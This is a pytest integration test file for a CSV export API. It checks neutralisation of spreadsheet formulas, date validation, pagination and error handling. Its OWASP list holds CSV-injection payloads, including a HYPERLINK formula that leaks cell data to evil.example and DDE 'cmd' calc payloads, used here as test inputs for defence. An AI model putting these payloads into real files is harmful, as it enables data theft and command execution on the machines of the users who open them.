"""``GET /api/v1/submissions.csv``: formula cells neutralised, bad dates refused before any byte, and a
failure while the export is written seen by the client as an error, not as a truncated ``200 OK``."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.core import csv_export
from service.core.auth import create_token
from service.storage import repository as repo
from tests.integration.support import auth, record, upload

# The payloads of OWASP's "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection),
# and a cell for each of the other characters it names (tab, carriage return).
OWASP = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for further information")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def export(client: TestClient, token: str, **params: str) -> list[dict[str, str]]:
    res = client.get("/api/v1/submissions.csv", headers=auth(token), params=params)
    assert res.status_code == 200, res.text
    assert res.headers["content-length"] == str(len(res.content))
    return list(csv.DictReader(io.StringIO(res.content.decode("utf-8"), newline="")))


def test_cells_a_spreadsheet_would_evaluate_begin_with_a_quote(client: TestClient, seed: Any, ctx: Any) -> None:
    with ctx.db.write_session() as session:  # the technician column is the token holder's name
        hostile_tech = create_token(session, actor="tests", role="technician", node="node-a", name=OWASP[3],
                                    now=ctx.now())[0]
    sent: dict[str, tuple[str, str]] = {}
    for i, payload in enumerate(OWASP):
        rec = record(lot=payload, unit=OWASP[-1 - i])
        assert upload(client, hostile_tech, rec).status_code == 201
        sent[rec["id"]] = (payload, OWASP[-1 - i])
    plain = record(lot="L-001", unit="U 7")
    assert upload(client, seed.tech_a, plain).status_code == 201
    rows = {row["id"]: row for row in export(client, seed.auditor)}
    for rid, (lot, unit) in sent.items():
        row = rows[rid]
        assert (row["lot"], row["unit"], row["technician"]) == ("'" + lot, "'" + unit, "'" + OWASP[3])
        assert (row["standard_version"], row["minor_defects"]) == ("1", "0")  # numbers, written as numbers
    assert (rows[plain["id"]]["lot"], rows[plain["id"]]["unit"], rows[plain["id"]]["technician"]) == (
        "L-001", "U 7", "Amina")
    for row in rows.values():  # nothing else was touched: no other cell begins with a quote
        assert not any(row[c].startswith("'") for c in row if c not in ("lot", "unit", "technician"))


@pytest.mark.parametrize(("param", "value"), [
    ("since", "0001-01-01T00:00:00+01:00"),  # year 0 in UTC
    ("until", "9999-12-31T23:30:00-01:00"),  # year 10000 in UTC
    ("since", "2026-13-01"),
    ("until", "yesterday"),
])
def test_dates_out_of_range_or_malformed_are_refused_before_anything_is_sent(client: TestClient, seed: Any,
                                                                            param: str, value: str) -> None:
    assert upload(client, seed.tech_a, record()).status_code == 201
    res = client.get("/api/v1/submissions.csv", headers=auth(seed.manager), params={param: value})
    assert res.status_code == 422, res.text
    assert res.headers["content-type"].startswith("application/json")
    assert [p["field"] for p in res.json()["problems"]] == [param]


def test_an_export_spanning_pages_is_complete(client: TestClient, seed: Any,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    ids = {upload(client, seed.tech_a, record()).json()["id"] for _ in range(5)}
    monkeypatch.setattr(csv_export, "PAGE", 2)  # three pages: 2, 2 and 1 rows
    monkeypatch.setattr(csv_export, "SPOOL_BYTES", 1)  # through a file on disk, not memory
    exported = [row["id"] for row in export(client, seed.manager)]
    assert len(exported) == 5 and set(exported) == ids  # each once


def test_a_failure_midway_is_an_error_status_not_a_truncated_file(app: Any, seed: Any, settings: Any,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    with TestClient(app, raise_server_exceptions=False) as client:
        for _ in range(5):
            assert upload(client, seed.tech_a, record()).status_code == 201
        real, served = repo.list_submissions, []

        def fails_after_three_rows(session: Any, **kw: Any) -> Any:  # an injected fault: the disk goes away
            for row in real(session, **kw):
                if len(served) == 3:
                    raise OSError("disk I/O error (injected)")
                served.append(row.id)
                yield row

        monkeypatch.setattr(csv_export, "PAGE", 2)
        monkeypatch.setattr(csv_export, "SPOOL_BYTES", 1)
        monkeypatch.setattr(repo, "list_submissions", fails_after_three_rows)
        before = sorted(p.name for p in settings.data_dir.iterdir())
        res = client.get("/api/v1/submissions.csv", headers=auth(seed.manager))
        assert len(served) == 3  # the fault came on the second page, after rows were written
        assert res.status_code == 500
        assert res.headers["content-type"].startswith("application/json") and "id,received_at" not in res.text
        assert sorted(p.name for p in settings.data_dir.iterdir()) == before  # no temporary file left behind
